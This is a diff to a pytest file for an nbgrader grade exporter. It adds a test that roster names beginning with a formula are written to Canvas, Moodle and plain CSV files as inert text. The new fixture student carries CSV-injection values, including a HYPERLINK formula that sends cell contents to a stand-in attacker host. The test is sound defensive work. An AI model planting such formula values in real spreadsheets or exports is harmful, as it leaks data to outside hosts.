@@ -29,6 +29,7 @@ CLASS = {
     "ada": ("Ada", "Perfect", "ada@example.edu", {"check_a": 4, "hidden_a": 6}, 0.0),
     "fay": ("Fay", "de la Cruz, Jr.", "fay@example.edu", {"check_a": 4, "hidden_a": 3.5}, 7 / 3),
     "zoe": ("Zoe", "Ng", None, None, 0.0),
+    "mal": ('=HYPERLINK("http://attacker.example/?"&A1,"Mal")', "@SUM(1+1)", "+mal@example.edu", None, 0.0),
 }
 SCORE = re.compile(r"^\d+(\.\d{1,2})?$")  # a plain decimal with a point: what both importers read
 
@@ -150,7 +151,7 @@ def test_the_score_is_a_plain_decimal_with_the_late_penalty_applied(course, file
     assert all(SCORE.match(score) for score in scores), scores
     expected = nbgrader_scores(course)
     assert {i: float(s) for i, s in zip(ids, scores)} == {i: pytest.approx(v, abs=0.005) for i, v in expected.items()}
-    assert dict(zip(ids, scores)) == {"ada": "10", "fay": "5.17", "zoe": "0"}  # 7.5 - 2.33 late; nothing submitted
+    assert dict(zip(ids, scores)) == {"ada": "10", "fay": "5.17", "mal": "0", "zoe": "0"}  # 7.5 - 2.33 late; none
 
 
 def test_moodle_file_has_an_identifier_no_row_leaves_empty_and_one_grade_column(course):
@@ -160,7 +161,7 @@ def test_moodle_file_has_an_identifier_no_row_leaves_empty_and_one_grade_column(
     assert all(len(row) == len(header) for row in students)
     assert [row[0] for row in students] == sorted(CLASS)  # every row identified, once
     assert all(float(row[4]) <= 100 for row in students)  # Moodle refuses grades above 100 by default
-    assert students[2][1] == ""  # zoe has no email: map Username, not Email address, for this class
+    assert students[3][1] == ""  # zoe has no email: map Username, not Email address, for this class
 
 
 def test_an_export_of_several_assignments_asks_which_one(tmp_path):
@@ -181,3 +182,12 @@ def test_an_export_names_the_students_an_interrupted_autograde_left_part_way(tmp
     code, log = nbgrader(tmp_path, {}, "export", *exporter)
     assert code == 0, log[-2000:]
     assert re.search(r"The autograde of fay stopped part-way.*run `nbgrader autograde attention`", log), log
+
+
+@pytest.mark.parametrize("file", ["grades.csv", "canvas.csv", "moodle.csv"])
+def test_a_roster_name_that_starts_a_formula_is_written_as_text_a_spreadsheet_never_runs(course, file):
+    # A display name a student chose in the LMS, imported with the roster: opened in a spreadsheet, a cell
+    # that starts with =, +, - or @ runs as a formula (CSV injection), here one that sends the sheet away.
+    cells = [cell for row in rows(course / file) for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "@")) or re.match(r"-[^\d]", cell)]
+    assert any(cell.startswith("'=HYPERLINK(") or cell.startswith("'@SUM") for cell in cells)
